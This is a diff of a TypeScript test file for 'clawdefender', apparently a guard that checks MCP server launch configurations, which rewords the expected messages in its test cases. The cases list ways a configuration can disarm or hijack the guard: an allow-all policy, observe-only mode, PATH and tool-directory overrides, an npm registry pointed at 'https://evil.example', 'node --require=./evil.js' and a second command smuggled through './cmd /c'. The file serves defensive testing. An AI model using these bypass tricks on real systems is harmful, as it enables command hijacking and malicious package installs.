@@ -57,7 +57,7 @@ for (const calling of runners) {
       weaknesses: [],
     });
     expect(standing(words)).toMatchObject({
-      weaknesses: [expect.stringContaining('a copy in the project first')],
+      weaknesses: [expect.stringContaining('prefers a copy in the project')],
     });
   });
 }
@@ -77,12 +77,12 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
   {
     name: 'a policy of the repository',
     words: ['clawdefender', 'proxy', '--policy', './allow-all.toml', '--', 'npx', 'x'],
-    why: 'it starts us with `--policy`',
+    why: 'it starts clawdefender with `--policy`',
   },
   {
     name: 'only watching',
     words: ['clawdefender', 'proxy', '--mode=observe', '--', 'npx', 'x'],
-    why: 'it starts us with `--mode=observe`',
+    why: 'it starts clawdefender with `--mode=observe`',
   },
   ...[
     'CLAWDEFENDER_HOME',
@@ -109,22 +109,22 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
   {
     name: 'an option that appears when the client fills in its variables',
     words: ['clawdefender', 'proxy', '--server', 'x', '$'.concat('{A:---mode}'), 'observe', '--', 'npx', 'x'],
-    why: 'it starts us with `$'.concat('{A:---mode}`'),
+    why: 'it starts clawdefender with `$'.concat('{A:---mode}`'),
   },
   {
     name: 'a program of the repository that is called like Node',
     words: ['./node', script, ...rest],
-    why: 'it starts us through `./node`, which can be any program',
+    why: 'it starts clawdefender through `./node`, which can be any program',
   },
   {
     name: 'a whole path to such a program',
     words: ['/repository/bin/node', script, ...rest],
-    why: 'it starts us through `/repository/bin/node`, which can be any program',
+    why: 'it starts clawdefender through `/repository/bin/node`, which can be any program',
   },
   {
     name: 'a program of the repository that is called like the shell of Windows',
     words: ['./cmd', '/c', 'clawdefender', ...rest],
-    why: 'it starts us through `./cmd`, which can be any program',
+    why: 'it starts clawdefender through `./cmd`, which can be any program',
   },
   {
     name: 'a second command in the line of a shell of Windows',
@@ -140,7 +140,7 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
     name: 'another PATH, by which Node is found',
     words: ['node', script, ...rest],
     others: { env: { PATH: './bin' } },
-    why: 'it sets `PATH`, which decides what `clawdefender` is',
+    why: 'it sets `PATH`, which decides which program `clawdefender` is',
   },
   {
     name: 'an address that some clients prefer to a command',
@@ -152,19 +152,19 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
     name: 'another PATH',
     words: ['clawdefender', ...rest],
     others: { env: { PATH: './bin' } },
-    why: 'it sets `PATH`, which decides what `clawdefender` is',
+    why: 'it sets `PATH`, which decides which program `clawdefender` is',
   },
   ...['PATHEXT', 'VOLTA_HOME', 'ASDF_DATA_DIR', 'MISE_DATA_DIR'].map((name) => ({
     name: `another place where programs are looked for, ${name}`,
     words: ['clawdefender', ...rest],
     others: { env: { [name]: './here' } },
-    why: `it sets \`${name}\`, which decides what \`clawdefender\` is`,
+    why: `it sets \`${name}\`, which decides which program \`clawdefender\` is`,
   })),
   {
     name: 'another registry, by a variable',
     words: ['npx', '-y', '@claw/cli', ...rest],
     others: { env: { npm_config_registry: 'https://evil.example' } },
-    why: 'it sets `npm_config_registry`, which decides what is fetched',
+    why: 'it sets `npm_config_registry`, which decides which package is downloaded',
   },
   {
     name: 'variables as a list of words',
@@ -182,13 +182,13 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
     name: 'variables in other letters, for clients that do not tell case apart',
     words: ['clawdefender', ...rest],
     others: { Env: { CLAWDEFENDER_HOME: './here' } },
-    why: 'it has `Env`, which some clients read like the field that is written so',
+    why: 'it has `Env`, which some clients treat as the field of that name',
   },
   {
     name: 'another command in other letters',
     words: ['clawdefender', ...rest],
     others: { COMMAND: 'evil' },
-    why: 'it has `COMMAND`, which some clients read like the field that is written so',
+    why: 'it has `COMMAND`, which some clients treat as the field of that name',
   },
   {
     name: 'nothing to stand in front of',
@@ -204,7 +204,7 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
   {
     name: 'code that Node loads first',
     words: ['node', '--require=./evil.js', script, ...rest],
-    why: 'it starts us through `--require=./evil.js`',
+    why: 'it starts clawdefender through `--require=./evil.js`',
   },
   {
     name: 'a program of our name in the repository',
@@ -214,7 +214,7 @@ const disarmed: { name: string; words: readonly string[]; others?: object; why: 
   {
     name: 'another registry',
     words: ['npx', '--registry=https://evil.example', '@claw/cli', ...rest],
-    why: 'it starts us through `--registry=https://evil.example`',
+    why: 'it starts clawdefender through `--registry=https://evil.example`',
   },
   {
     name: 'a file of variables in the repository',
@@ -280,7 +280,7 @@ const others: { name: string; words: readonly string[]; expected: object }[] = [
     words: ['npx -y server'],
     expected: {
       kind: 'out-of-reach',
-      reason: 'its `command` is a whole command line; put the arguments into `args`',
+      reason: 'its `command` is a whole command line; move the arguments to `args`',
     },
   },
 ];
@@ -291,7 +291,7 @@ for (const { name, words, expected } of others) {
 test('a command and an address: which one counts only the client knows', () => {
   expect(standing(['npx', 'x'], { url: 'https://x.example/mcp' })).toMatchObject({
     kind: 'out-of-reach',
-    reason: expect.stringContaining('a command and an address'),
+    reason: expect.stringContaining('a command and a URL'),
   });
 });
 
